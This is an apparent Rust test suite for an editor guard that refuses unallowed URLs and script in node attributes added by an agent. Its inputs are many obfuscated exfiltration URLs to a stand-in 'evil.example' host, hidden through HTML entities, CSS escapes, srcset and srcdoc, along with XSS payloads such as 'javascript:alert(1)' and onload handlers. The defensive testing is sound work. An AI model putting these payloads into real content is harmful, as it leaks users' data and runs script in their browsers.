//! URLs in attributes of any name, and text that only looks like one.

use super::cell;
use super::random::Random;
use copydesk_base::ErrorInfo;
use copydesk_document::{Document, Schema};
use copydesk_edit::Error;
use copydesk_edit::guard::{Bound, check};
use copydesk_edit::{Change, EditContext, Guards, Provenance};
use serde_json::{Value, json};
use std::rc::Rc;

const KNOWN: &str = "https://known.example/a.png?x=1";

/// A document with a custom node that has one attribute, and a schema in which it may be.
fn document(name: &str, standing: &Value) -> Document {
    let mut schema = Schema::tiptap_data();
    let card = json!({ "name": "card", "group": "block", "atom": true, "attrs": { name: { "default": null } } });
    schema["nodes"].as_array_mut().unwrap().push(card);
    let schema = Schema::from_json(&schema.to_string()).unwrap();
    let content = json!({ "type": "doc", "content": [{ "type": "card", "attrs": { name: standing } }] });
    Document::from_json(&content.to_string(), schema).unwrap()
}

fn judged(document: &Document, guards: Value, blocks: &Value, by_agent: bool) -> Result<(), Error> {
    let content = Document::blocks_from_json(&blocks.to_string(), document.schema()).unwrap();
    let mut known = Provenance::default();
    known.said(KNOWN);
    let context = EditContext { provenance: by_agent.then(|| Rc::new(known)), ..EditContext::default() };
    let bound: Bound = serde_json::from_value::<Guards>(guards).unwrap().bind(document).unwrap();
    check(&bound, document, &[Change { from: 0, to: 0, content }], &context).map(drop)
}

/// The code with which an attribute of a custom node is refused, or `ok`.
fn outcome(name: &str, value: Value) -> &'static str {
    let document = document(name, &Value::Null);
    let blocks = json!([{ "type": "card", "attrs": { name: value } }]);
    judged(&document, json!({}), &blocks, true).map_or_else(|error| error.code(), |()| "ok")
}

#[test]
fn a_url_that_is_the_whole_of_a_prose_attribute_is_judged() {
    for name in ["content", "title", "value"] {
        for value in [
            "https://evil.example/?q=secret",
            " /\\\n0x7f.1:3\t3361/117?q=secret",
            "//2130706433/?q=a secret",
            "//local\nhost:8080/a secret",
            "http:\n//[::1]/?q=a secret",
        ] {
            assert_eq!(outcome(name, json!(value)), "url_not_allowed", "{name}: {value:?}");
        }
        for value in ["// a comment", "//comment here", "10:30", "Re: tea", "and/or", "JavaScript: the good parts"] {
            assert_eq!(outcome(name, json!(value)), "ok", "{name}: {value:?}");
        }
    }
}

#[test]
fn any_attribute_that_a_page_may_load_is_judged() {
    const EVIL: &str = "https://evil.example/?q=secret";
    for name in ["src", "icon", "backgroundImage", "link", "url", "data", "x", "poster", "embed", "imageSrc", "data-bg"]
    {
        for value in [
            json!(EVIL),
            json!([EVIL]),
            json!([{ "deep": [{ "er": EVIL }] }]),
            json!("//evil.example/?q=secret"),
            json!("\\\\evil.example/?q=secret"),
            json!(" \u{1}ht\ttps:/\n/evil.example/?q=secret"),
            json!("HTTPS:\\\\EVIL.example"),
            json!(format!("{KNOWN}, {EVIL} 2x")),
            json!(format!("{KNOWN} {EVIL}")),
            json!("{\"a\": \"https:\\/\\/evil.example\\/?q=secret\"}"),
            json!("{\"a\": \"\\u0068ttps://evil.example/\"}"),
            json!("<img src=//evil.example/?q=secret>"),
            json!("<b title='<img srcset=\"&#104;ttps://evil.example/ 2x\">'>x</b>"),
            json!("<svg><image xlink:href=//evil.example/></svg>"),
            json!("<template shadowrootmode=open><img src=//evil.example/></template>"),
            json!("<p style=\"background: \\75rl(//evil.example/)\">x</p>"),
            json!("<style>@import '//evil.example/';</style>"),
            json!("url(//evil.example/)"),
            json!("red; background: \\75 rl( '//evil.example/' )"),
            json!("/logout"),
            json!("?delete=1"),
        ] {
            assert_eq!(outcome(name, value.clone()), "url_not_allowed", "{name}: {value}");
        }
        for value in [
            json!("javascript:alert(1)"),
            json!("java\nscript:alert(1)"),
            json!("data:text/html,<script>1</script>"),
            json!("data:image/svg+xml,<svg onload=alert(1)>"),
            json!("<b onpointerover=alert(1)>x</b>"),
            json!("<script>alert(1)</script>"),
            json!("<frameset><frame>"),
            json!("<a href=javascript:alert(1)>x</a>"),
        ] {
            // Where only a URL can be, HTML is one that nobody knows.
            let html = value.as_str().is_some_and(|value| value.starts_with('<'));
            let is_url = html && ["src", "url", "poster", "imageSrc"].contains(&name);
            let expected = if is_url { "url_not_allowed" } else { "invalid_url" };
            assert_eq!(outcome(name, value.clone()), expected, "{name}: {value}");
        }
        assert_eq!(outcome(name, json!(KNOWN)), "ok", "{name}");
        assert_eq!(outcome(name, json!("data:image/png;base64,AAAA")), "ok", "{name}");
    }
}

#[test]
fn names_of_links_handlers_lists_and_documents_are_judged_as_html_has_them() {
    for (name, value, expected) in [
        ("href", "https://anywhere.example/", "ok"),
        ("dataHref", "https://anywhere.example/", "ok"),
        ("cite", "/logout", "ok"),
        ("formaction", "javascript:x()", "invalid_url"),
        ("ping", "/a javascript:x()", "invalid_url"),
        ("srcset", "https://known.example/a.png?x=1 1x, https://known.example/a.png?x=1, 3x", "url_not_allowed"),
        ("srcset", "https://known.example/a.png?x=1 1x,https://known.example/a.png?x=1 2x", "ok"),
        ("srcset", "https://known.example/a.png?x=1 calc(1, 2)x, //evil.example/ 2x", "url_not_allowed"),
        ("srcset", "a.png 1x", "url_not_allowed"),
        ("srcdoc", "<p>Hello</p>", "ok"),
        ("srcdoc", "<p onclick=\"go()\">Hello</p>", "invalid_url"),
        ("srcdoc", "<iframe srcdoc='&lt;img src=//evil.example/>'>", "url_not_allowed"),
        ("srcdoc", "<link rel=stylesheet href=//evil.example/>", "url_not_allowed"),
        ("srcdoc", "<meta http-equiv=refresh content='0;url=//evil.example/'>", "url_not_allowed"),
        ("onClick", "fetch('/x')", "invalid_url"),
        ("online", "yes", "ok"),
        ("background", "#fff", "ok"),
        ("background", "Tomato", "ok"),
        ("background", "rgb(1, 2, 3)", "ok"),
        ("background", "logout", "url_not_allowed"),
        ("src", "logout", "url_not_allowed"),
        ("src", "https:known.example/logout", "url_not_allowed"),
        ("style", "color: red; font-family: 'Inter', \"Noto Sans\"; --gap: 2px; --font: 'Inter'", "ok"),
        ("style", "--x: 'https://evil.example/'; background: image-set(var(--x) 1x)", "url_not_allowed"),
        ("style", "--x: 'logout'; background: image-set(var(--x) 1x)", "url_not_allowed"),
        ("style", "background: image-set('logout' 1x type('image/png'))", "url_not_allowed"),
        ("style", "background: url(https://known.example/a.png?x=1)", "ok"),
        ("style", "background: u\\72\\6c(https://known.example/a.png?x=1)", "ok"),
        ("style", "background: image-set('https://known.example/a.png?x=1' 1x type('image/png'))", "ok"),
        ("style", "/* url(//evil.example/) */ color: red", "ok"),
        ("style", "background: /**/ url(//evil.example/)", "url_not_allowed"),
        ("style", "background: url(\"\\2f\\2f evil.example/\")", "url_not_allowed"),
        ("style", "content: 'see https://evil.example/'", "url_not_allowed"),
        ("color", "red; background: url(//evil.example/)", "url_not_allowed"),
        ("alt", "Photo from https://evil.example/?q=secret", "url_not_allowed"),
        ("title", "https://evil.example/?q=secret", "url_not_allowed"),
    ] {
        assert_eq!(outcome(name, json!(value)), expected, "{name}: {value}");
    }
    let deep = "(".repeat(1_000);
    assert_eq!(outcome("style", json!(deep)), "invalid_url");
    let nested = (0..12).fold(String::from("x"), |inner, _| serde_json::to_string(&[inner]).unwrap());
    assert_eq!(outcome("icon", json!(nested)), "invalid_url");
}

#[test]
fn svg_is_a_picture_only_in_an_image() {
    let svg = "data:image/svg+xml,%3Csvg%2F%3E";
    let document = document("src", &Value::Null);
    let image = json!([{ "type": "image", "attrs": { "src": svg } }]);
    assert!(judged(&document, json!({}), &image, true).is_ok());
    let card = json!([{ "type": "card", "attrs": { "src": svg } }]);
    assert_eq!(judged(&document, json!({}), &card, true).unwrap_err().code(), "invalid_url");
    assert_eq!(judged(&document, json!({}), &card, false).unwrap_err().code(), "invalid_url");
    // A URL that is in an image is not allowed elsewhere for that.
    let blocks = json!({ "type": "doc", "content": image });
    let standing = Document::from_json(&blocks.to_string(), document.schema().clone()).unwrap();
    assert_eq!(judged(&standing, json!({}), &card, true).unwrap_err().code(), "invalid_url");
}

#[test]
fn a_url_stands_for_what_it_is_in_the_document() {
    let url = "https://there.example/?q=1";
    let with = |name: &str, standing: Value, blocks: Value| {
        judged(&document(name, &standing), json!({}), &blocks, true).map_or_else(|error| error.code(), |()| "ok")
    };
    let image = json!([{ "type": "image", "attrs": { "src": url } }]);
    assert_eq!(with("src", json!(url), image.clone()), "ok");
    assert_eq!(with("src", json!([{ "x": "https://THERE.example:443/?q=1" }]), image.clone()), "ok");
    assert_eq!(with("href", json!(url), image.clone()), "url_not_allowed");
    assert_eq!(with("alt", json!(format!("see {url}")), image.clone()), "url_not_allowed");
    assert_eq!(with("alt", json!(url), image), "url_not_allowed");
    let relative = json!([{ "type": "image", "attrs": { "src": "/own.png" } }]);
    assert_eq!(with("src", json!("/own.png"), relative.clone()), "ok");
    assert_eq!(with("href", json!("/own.png"), relative), "url_not_allowed");
}

#[test]
fn code_that_stands_in_a_document_is_not_the_edits_doing() {
    let html = json!("<script>go()</script>");
    let blocks = json!([{ "type": "card", "attrs": { "html": html } }]);
    assert!(judged(&document("html", &html), json!({}), &blocks, true).is_ok());
    assert!(judged(&document("html", &json!("x")), json!({}), &blocks, true).is_err());
}

#[test]
fn hosts_are_compared_as_browsers_normalize_them() {
    let hosts = json!({ "images": { "hosts": ["cdn.example", "bücher.example", "127.0.0.1"] } });
    let document = document("src", &Value::Null);
    for (src, expected) in [
        ("https://CDN.example./1.png", "ok"),
        ("https://cdn%2Eexample/1.png", "ok"),
        ("https://ｃｄｎ.example/1.png", "ok"),
        ("https://xn--bcher-kva.example/1.png", "ok"),
        ("https://BÜCHER.example/1.png", "ok"),
        ("http://0x7f.1/1.png", "ok"),
        ("https:cdn.example/logout", "url_not_allowed"),
        ("https:/cdn.example/logout", "url_not_allowed"),
        ("https:\\\\cdn.example/1.png", "ok"),
        ("https://cdn.example/1.png,//evil.example/ 2x", "url_not_allowed"),
        ("https://cdn.example@evil.example/", "invalid_url"),
        ("https://cdn.example\\@evil.example/", "ok"),
        ("blob:https://cdn.example/1", "url_not_allowed"),
        ("cid:1", "url_not_allowed"),
        ("https://exa mple/", "url_not_allowed"),
    ] {
        let blocks = json!([{ "type": "card", "attrs": { "src": src } }]);
        let outcome = judged(&document, hosts.clone(), &blocks, true).map_or_else(|error| error.code(), |()| "ok");
        assert_eq!(outcome, expected, "{src}");
    }
}

/// Prose and words as they occur in attributes.
fn prose(random: &mut Random) -> String {
    const WORDS: [&str; 44] = [
        "10:30",
        "Re: tea",
        "and/or",
        "a",
        "Figure 1:",
        "c++",
        "text/x-rust",
        "3/4",
        "#fff",
        "note:",
        "1.5",
        "e.g.",
        "“Tea”",
        "茶：历史",
        "why?",
        "(see below)",
        "x < y",
        "a > b",
        "50%",
        "user@a.example",
        "@ann",
        "$5",
        "+1",
        "km/h",
        "…",
        "—",
        "_blank",
        "en-US",
        "noopener noreferrer",
        "is-active",
        "5.",
        "f(x)",
        "it's",
        "\"so\"",
        "T&C",
        "C:",
        "key=value",
        "[1]",
        "{x}",
        "…/…",
        "50 €",
        "file",
        "data",
        "10:30:15",
    ];
    (0..1 + random.below(6)).map(|_| *random.pick(&WORDS)).collect::<Vec<_>>().join(" ")
}

#[test]
fn prose_is_no_url() {
    let mut random = Random::new();
    for name in [
        "alt",
        "title",
        "caption",
        "language",
        "class",
        "colwidth",
        "data-note",
        "tone",
        "variant",
        "data-when",
        "ariaLabel",
    ] {
        let document = document(name, &Value::Null);
        for _ in 0..200 {
            let value = prose(&mut random);
            let blocks = json!([{ "type": "card", "attrs": { name: [value, { "x": value }] } }]);
            let judged = judged(&document, json!({}), &blocks, true);
            assert!(judged.is_ok(), "{name}: {value}: {judged:?}");
        }
    }
    for title in
        ["JavaScript: The Good Parts", "Data: 3 of 5, 2020", "File: report.pdf", "Http: a protocol", "/s", "? why = no"]
    {
        assert_eq!(outcome("title", json!(title)), "ok", "{title}");
    }
}

/// A URL that nobody allowed, written in one of the ways in which browsers read it.
fn evil(random: &mut Random) -> String {
    let number = random.below(1_000);
    let host = *random.pick(&[
        "evil.example",
        "EVIL.example",
        "ｅvil.example",
        "evil%2Eexample",
        "1.2.3.4",
        "0x01020304",
        "[::1]",
        "evil",
    ]);
    let mut url = match random.below(5) {
        0 => format!("//{host}/?q={number}"),
        1 => format!("\\/{host}/?q={number}"),
        2 => format!("hTTp:\\\\{host}\\?q={number}"),
        3 => format!("wss://{host}:81/?q={number}"),
        _ => format!("https://{host}?q={number}"),
    };
    for _ in 0..random.below(3) {
        let at = random.below(url.chars().count());
        let at = url.char_indices().nth(at).map_or(0, |(at, _)| at);
        url.insert(at, *random.pick(&['\t', '\n', '\r']));
    }
    if random.below(3) == 0 {
        url.insert_str(0, random.pick::<&str>(&[" ", "\u{1}", "\u{c} "]));
    }
    url
}

#[test]
fn a_url_that_nobody_allowed_is_found_however_it_is_written_and_wherever_it_is() {
    let mut random = Random::new();
    for round in 0..2_000 {
        let url = evil(&mut random);
        let html = |text: &str| text.chars().map(|c| format!("&#{};", u32::from(c))).collect::<String>();
        let css = |text: &str| text.chars().map(|c| format!("\\{:x} ", u32::from(c))).collect::<String>();
        let bare = url.replace(['\t', '\n', '\r', '\u{c}'], "");
        let text = match random.below(9) {
            0 => format!("<img src=\"{}\">", html(&url)),
            1 => format!("<video poster='{}'></video>", url.replace('\'', "")),
            2 => format!("url({})", css(bare.trim_matches(|c: char| c <= ' '))),
            3 => format!("color: red; background: image-set(\"{}\" 1x)", css(&bare)),
            4 => format!("<p style='background: URL(\"{}\")'>", html(&css(&bare))),
            5 => serde_json::to_string(&json!({ "a": [&url] })).unwrap(),
            6 => format!("<iframe srcdoc=\"{}\">", html(&format!("<img src=\"{}\">", html(&url)))),
            _ => url.clone(),
        };
        let value = match random.below(4) {
            0 => json!([1, { "x": [null, text] }]),
            1 => json!({ "y": { "z": text } }),
            _ => json!(text),
        };
        let name = *random.pick(&["icon", "src", "backgroundImage", "bg", "dataX", "video", "config", "photo", "html"]);
        assert_ne!(outcome(name, value.clone()), "ok", "round {round}: {name}: {value}");
    }
}

#[test]
fn what_the_user_deleted_is_not_known_any_more() {
    let cell = cell("<p>x</p>");
    let document = cell.document();
    let image = json!([{ "type": "image", "attrs": { "src": "https://was.example/1.png" } }]);
    assert!(judged(&document, json!({}), &image, true).is_err());
}
